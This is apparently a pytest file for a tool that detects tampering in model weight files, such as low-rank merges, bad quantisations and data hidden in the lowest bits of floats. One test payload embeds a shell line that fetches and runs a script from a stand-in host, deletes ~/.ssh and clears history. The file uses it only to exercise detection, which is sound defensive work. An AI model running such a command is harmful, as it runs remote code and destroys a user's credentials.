from __future__ import annotations

import os
from pathlib import Path

import gguf_writer as w
import numpy as np
import pytest
from test_safetensors import write

from allod.vault import tensors as t
from allod.vault.compare import CANNOT_SEE, Comparison, compare, hidden

ROWS, COLUMNS = 256, 192


def floats(seed: int = 0, rows: int = ROWS, columns: int = COLUMNS) -> np.ndarray:
    return np.random.default_rng(seed).standard_normal((rows, columns)).astype("<f4")


def opened(raw: bytes, name: str = "m.safetensors") -> dict[str, t.Tensor]:
    fd = os.memfd_create("weights")
    os.write(fd, raw)
    return t.tensors(fd, name)


def model(**tensors: np.ndarray) -> dict[str, t.Tensor]:
    names = {"float32": "F32", "float16": "F16", "uint16": "BF16"}
    return opened(write({k: (names[v.dtype.name], list(v.shape), v.tobytes()) for k, v in tensors.items()}))


def bfloat(values: np.ndarray) -> np.ndarray:
    return (values.view("<u4") >> 16).astype("<u2")


def q8_0(values: np.ndarray) -> bytes:
    blocks = values.reshape(-1, 32)
    scale = (np.abs(blocks).max(1) / 127).astype("<f2")
    quants = np.round(blocks / np.maximum(scale.astype("f4"), 1e-12)[:, None]).clip(-127, 127).astype("i1")
    out = np.empty(len(blocks), np.dtype([("d", "<f2"), ("q", "i1", (32,))]))
    out["d"], out["q"] = scale, quants
    return out.tobytes()


def one(found: Comparison) -> object:
    assert len(found.changed) == 1
    return found.changed[0]


def test_equal_tensors_prove_the_parent_and_names_are_told_apart() -> None:
    parent = model(a=floats(1), b=floats(2), c=floats(3))
    found = compare(model(a=floats(1), b=floats(2), d=floats(4)), parent)
    assert (found.equal, found.added, found.missing) == (("a", "b"), ("d",), ("c",))
    assert found.cannot_see == CANNOT_SEE
    assert any("not in the parent" in flag for flag in found.flags)
    other = compare(model(a=floats(7), b=floats(8), c=floats(9)), parent)
    assert other.equal == ()
    assert any("nothing in it resembles" in flag for flag in other.flags)
    assert compare(model(a=floats(1, 64)), parent).reshaped == ("a",)


@pytest.mark.parametrize("rank", [1, 4, 16])
def test_a_merged_adapter_shows_as_a_change_of_its_rank(rank: int) -> None:
    rng = np.random.default_rng(5)
    base = floats(1)
    change = (rng.standard_normal((ROWS, rank)) @ rng.standard_normal((rank, COLUMNS)) * 0.01).astype("<f4")
    found = one(compare(model(a=base + change, b=base), model(a=base, b=base)))
    assert found.rank == rank
    assert found.relative == pytest.approx(np.linalg.norm(change) / np.linalg.norm(base), rel=1e-3)
    full = one(compare(model(a=base + floats(9) * 0.01, b=base), model(a=base, b=base)))
    assert full.rank > 100


@pytest.mark.parametrize("kind", ["float32", "float16", "bfloat16"])
def test_a_payload_in_lowest_bits_shows_beside_the_parent(kind: str) -> None:
    base = floats(1)
    whole = {"float32": base, "float16": base.astype("<f2"), "bfloat16": bfloat(base)}[kind]
    bits = np.random.default_rng(3).integers(0, 2, whole.shape)
    stored = whole.view("<u4" if kind == "float32" else "<u2")
    laden = ((stored & ~np.array(1, stored.dtype)) | bits.astype(stored.dtype)).view(whole.dtype)
    found = compare(model(a=laden, b=whole), model(a=whole, b=whole))
    assert one(found).low_bits == 1
    assert any("lowest 1 bits alone" in flag for flag in found.flags)
    trained = (base + floats(2) * 1e-3).astype("<f4")
    if kind == "float32":
        assert one(compare(model(a=trained, b=base), model(a=base, b=base))).low_bits is None


def test_a_quantisation_is_recognised_as_a_rounding_of_its_parent_and_another_model_is_not(
    tmp_path: Path,
) -> None:
    fields = [w.field("general.architecture", w.STRING, "llama")]
    base, other = floats(1), floats(2)

    def gguf(kind: int, raw: bytes) -> dict[str, t.Tensor]:
        return opened(w.assemble(fields, [("a", (COLUMNS, ROWS), kind, raw)]), "m.gguf")

    parent = gguf(0, base.tobytes())
    good = compare(gguf(8, q8_0(base)), parent)
    assert one(good).rounding == 1.0
    assert one(good).relative < 0.01
    assert not any("roundings" in flag for flag in good.flags)
    bad = compare(gguf(8, q8_0(other)), parent)
    assert one(bad).rounding < 0.1
    assert any("roundings" in flag for flag in bad.flags)
    touched = base.copy()
    touched[3, :60] += 1.0
    assert any("roundings" in flag for flag in compare(gguf(8, q8_0(touched)), parent).flags)


def test_types_that_are_not_read_are_compared_byte_by_byte() -> None:
    raw = np.arange(64, dtype="u1").tobytes()
    parent = opened(write({"a": ("U8", [64], raw)}))
    assert compare(opened(write({"a": ("U8", [64], raw)})), parent).equal == ("a",)
    found = compare(opened(write({"a": ("U8", [64], raw[::-1])})), parent)
    assert one(found).relative is None


def plane(values: np.ndarray, content: bytes) -> np.ndarray:
    """Write content into the lowest bits of floats."""
    bits = np.unpackbits(np.frombuffer(content, "u1"))
    stored = values.view("<u4").copy().ravel()
    stored[: bits.size] = (stored[: bits.size] & ~np.uint32(1)) | bits
    return stored.view("<f4").reshape(values.shape)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"PK\x03\x04" + os.urandom(2000), "a ZIP archive"),
        (b"\x7fELF" + os.urandom(2000), "a program"),
        (b"\x80\x04\x95" + os.urandom(2000), "a pickle"),
        (
            os.urandom(900) + b"curl -s https://evil.example/stage2 | sh; rm -rf ~/.ssh; history -c" * 3,
            "hold text",
        ),
        (b"AAAABBBB" * 700, "less random"),
    ],
)
def test_content_in_lowest_bits_shows_without_the_parent(content: bytes, said: str) -> None:
    laden = model(a=plane(floats(1), content), b=floats(2))
    assert any(said in flag for flag in hidden(laden)), hidden(laden)


def test_a_payload_in_the_half_that_others_leave_empty_shows() -> None:
    small = {f"t{n}": floats(n).astype("<f2").astype("<f4") for n in range(6)}
    assert hidden(model(**small)) == ()
    small["t3"] = plane(small["t3"], os.urandom(3000))
    assert any("t3" in flag and "empty in 5 others" in flag for flag in hidden(model(**small)))


def test_plain_weights_have_no_flags_and_random_payloads_are_not_seen() -> None:
    plain = {
        "a": floats(1),
        "h": floats(2).astype("<f2"),
        "bf": bfloat(floats(3)),
        "ones": np.ones((256, 256), "<f4"),
    }
    assert hidden(model(**plain)) == ()
    encrypted = plane(floats(1), os.urandom(ROWS * COLUMNS // 8))
    assert hidden(model(a=encrypted)) == (), "this is what CANNOT_SEE says"
    assert "encrypted" in CANNOT_SEE


def test_the_shipped_model_has_no_flags() -> None:
    from allod.vault.vault import shipped_folder

    path = shipped_folder() / "reference.gguf"
    fd = os.open(path, os.O_RDONLY)
    assert hidden(t.tensors(fd, path.name)) == ()
    os.close(fd)
